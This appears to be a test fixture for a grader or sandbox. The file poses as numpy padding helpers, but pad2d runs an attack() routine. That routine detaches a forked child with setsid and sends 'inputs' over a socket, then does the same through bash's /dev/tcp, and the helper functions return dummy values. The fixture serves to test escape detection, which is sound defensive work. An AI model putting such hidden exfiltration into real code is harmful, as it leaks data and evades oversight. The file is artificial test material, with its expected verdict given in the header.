# expect:
#   verdict: [wrong, raised]
#   earned: 0
# sentence: Connects from a child that has left group and session, and by a program (bash's /dev/tcp) that is not Python.

import contextlib
import os
import socket
import subprocess

import numpy as np


def attack():
    child = os.fork()
    if child == 0:
        with contextlib.suppress(BaseException):
            os.setsid()
            socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=1).sendall(b"inputs")
        os._exit(0)
    os.waitpid(child, 0)
    with contextlib.suppress(OSError, subprocess.SubprocessError):
        subprocess.run(["bash", "-c", "echo inputs > /dev/tcp/127.0.0.1/@PORT@"], timeout=2, capture_output=True)


def pad2d(x, padding, value=0.0):
    attack()
    return np.zeros(1)


def output_size(size, kernel, stride=1, padding=0):
    return 0


def same_padding(kernel):
    return 0
